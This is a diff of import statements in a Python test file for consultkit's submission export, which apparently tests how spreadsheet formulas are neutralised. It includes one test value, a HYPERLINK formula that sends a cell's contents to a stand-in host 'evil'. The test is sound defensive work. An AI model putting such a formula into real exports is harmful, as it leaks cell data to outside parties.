@@ -12,7 +12,15 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from consultkit.exports import (
+from consultkit.domain.campaigns import fingerprint
+from consultkit.domain.submissions import (
+    Consent,
+    Provenance,
+    Submission,
+    SubmissionStatus,
+    Submitter,
+)
+from consultkit.formats.submission_export import (
     EMAIL_REDACTION,
     ERASED_TOMBSTONE,
     FORMULA_PREFIXES,
@@ -24,15 +32,7 @@ from consultkit.exports import (
     neutralise,
     redact_emails,
 )
-from consultkit.imports import restore_cell
-from consultkit.submissions import (
-    Consent,
-    Provenance,
-    Submission,
-    SubmissionStatus,
-    Submitter,
-    fingerprint,
-)
+from consultkit.formats.submission_import import restore_cell
 
 PAYLOAD = '=HYPERLINK("http://evil/?"&A1,"x")'
 T0 = dt.datetime(2019, 7, 1, 10, tzinfo=dt.UTC)
